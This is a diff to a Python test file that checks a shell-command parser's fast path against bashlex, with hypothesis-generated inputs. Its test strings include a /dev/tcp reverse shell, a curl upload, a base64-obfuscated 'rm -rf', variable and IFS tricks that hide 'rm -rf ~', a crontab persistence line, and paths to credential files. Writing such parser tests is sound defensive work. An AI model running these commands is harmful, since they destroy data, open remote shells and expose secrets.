@@ -51,6 +51,10 @@ def test_corpus_decisions_do_not_depend_on_the_fast_path(gov, workspace, monkeyp
     "cat <<< 'x' | tr a-z A-Z", "echo \"it's\" 'say \"hi\"'", "find . -name '*.py' -exec rm {} +", "[ -d docs ] && ls",
     "echo $(ls|wc) $(a; b)", "echo x\"\"y ''", "ls src/*.py a?b [a-z]* {a,b} x{y}", "curl -d @- https://e.example",
     "$(echo rm) -rf /", "echo cm0gLXJmIH4= | base64 -d | sh", "ls -- -x +x %x ^x @x :x ,x .x",
+    "X=1 ls", "a+=1", "X=rm; $X -rf ~", "IFS=,; cmd=rm,-rf,~; $cmd", "wc -l ~/* ~/{a,b}", "(ls)", "{ ls; }",
+    "(cd src && ls) > out 2>&1", "crontab -l | { cat; echo '* * * * * x'; } | crontab -", "(ls; (pwd))",
+    "echo \\x \\; a\\ b", "\\rm -rf ~", "find . -exec /bin/sh \\; -quit", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+    "ls >& 1 <& x",
 ])
 def test_common_lines_take_the_fast_path(line):
     assert agrees(line), line
@@ -62,10 +66,12 @@ def test_common_lines_take_the_fast_path(line):
     "echo \"x\"y'z'", "echo 'a''b'", "echo 'x'\"y\"'z'",  # bashlex's own quote removal
     "echo x'$(y)'", "echo 'a\"b'x",                # '..' inside a word read as unquoted by bashlex
     "echo a\"it's\"",                             # ' inside a later ".." read as a quote
-    "cat x<(ls)", "ls } if", "echo { in", "ls {fd}>x", "ls 2> 0<x", "ls >&1>x",
+    "cat x<(ls)", "ls } if", "echo { in", "ls {fd}>x", "ls 2> 0<x", "ls >&1>x", "{ ls; }2>&1",
+    "( (ls) )", "( { ls; } )", "$( (ls) )", "(ls) x", "(ls)x",      # bashlex: "( (" is arithmetic; words after )
     # outside the subset
-    "X=1 ls", "a+=1", "> out.txt", "2>/dev/null ls", "if true; then ls; fi", "for i in a; do ls; done",
-    "ls &", "ls |& wc", "ls ;", "ls\nls", "(ls)", "{ ls; }", "f() { ls; }", "echo `id`", "echo \\x", "echo $'\\x41'",
+    "> out.txt", "2>/dev/null ls", "X=1 >x ls", "if true; then ls; fi", "for i in a; do ls; done", "(( x ))",
+    "ls &", "ls |& wc", "ls ;", "ls\nls", "f() { ls; }", "echo `id`", "echo $'\\x41'", "echo $(\\ls)", "ls \\",
+    "{ls;}", "{ ls }", "( )",
     "echo $1 $? $$", "echo ${X:-y}", "echo $((1+2))", "ls >&-", "ls &>x", "ls >|x", "cat <<EOF", "ls # c", "! ls",
     "time ls", "'if' x", "echo \"a\\\"\"", "echo \"$\"", "echo é", "ls\x07", "ls \u00a0x", "[[ -f x ]]",
 ])
@@ -76,6 +82,10 @@ def test_uncertain_lines_go_to_bashlex(line):
 # --------------------------------------------------------------------------- generated lines
 
 _ATOMS = [
+    "(ls)", "( ls; pwd )", "(cd src && ls)", "{ ls; }", "{ cat; echo x; }", "{ ls;}", "{ ls }", "( (ls) )",
+    "(", ")", "{ ", " }", "; }", "\\;", "\\ ", "\\rm", "\\'", "\\\\", "\\$X", "\\é", "a\\*b", "X=1",
+    "X='a b'", "X=$(ls)", "Y=\"$Z\"", ">& /dev/tcp/x", ">&x", ">&1x", "<& y", ">& ~/x", ">& -", ">& 1",
+    "~/*", "~/{a,b}", "~x/*",
     "ls", "cat", "grep", "rm", "git", "echo", "sh", "cd", "find", "x=y", "--a=b", "a-b=c", "a+=1", "a[1]=x", "=x",
     "src/app.py", "/etc/shadow", "~/.ssh/id_rsa", "~", "~/x", "~root/x", "~+", "HEAD~1", "-la", "--out=~/x", "x:y",
     "'a b'", "'rm -rf /'", "''", "\"c d\"", "\"\"", "\"$HOME\"", "\"it's\"", "'a\"b'", "$X", "${Y}", "$a_b", "${a}b",
@@ -111,6 +121,7 @@ if st is not None:
     _plain = st.sampled_from(["ls", "cat", "git", "grep", "-n", "src/app.py", "/etc/passwd", "a=b", "x.txt"])
     _seg = st.one_of(
         _plain, _plain, _plain, _plain, _lit, _lit, _nasty,
+        st.sampled_from(["\\", "\\ ", "\\;", "\\'", "\\$", "X=", "X+=", "~/*", ">& ", "(", "{ "]),
         _inner.map(lambda t: f"'{t}'"), _inner.map(lambda t: f'"{t}"'),
         st.sampled_from(["$X", "${Y}", "$a_1", "\"$X\"", "$1", "${Y:-z}", "$(ls)", "\"$(id)\"", "<(ls)", "~", "~/x"]),
     )
@@ -122,8 +133,13 @@ if st is not None:
                          ).map(lambda t: " ".join([t[0], *t[1]]))
     _simple_line = st.lists(st.tuples(_command, st.sampled_from([" | ", "|", " && ", " || ", "; ", ";"])),
                             min_size=1, max_size=3).map(lambda cs: "".join(c + op for c, op in cs[:-1]) + cs[-1][0])
-    _line = st.one_of(_simple_line, st.tuples(_command, _simple_line, _command).map(
-        lambda t: f"{t[0]} $({t[1]}) {t[2]}"), st.tuples(_command, _simple_line).map(lambda t: f'{t[0]} "<({t[1]})"'))
+    _line = st.one_of(
+        _simple_line,
+        st.tuples(_command, _simple_line, _command).map(lambda t: f"{t[0]} $({t[1]}) {t[2]}"),
+        st.tuples(_command, _simple_line).map(lambda t: f'{t[0]} "<({t[1]})"'),
+        st.tuples(st.sampled_from(["(", "( ", "{ "]), _simple_line, st.sampled_from([")", " )", "; }", ";}", " }"]),
+                  st.sampled_from(["", " >x", "2>&1", " | wc", "x"])).map("".join),
+    )
 
     @settings(max_examples=400, deadline=None)
     @given(_line)
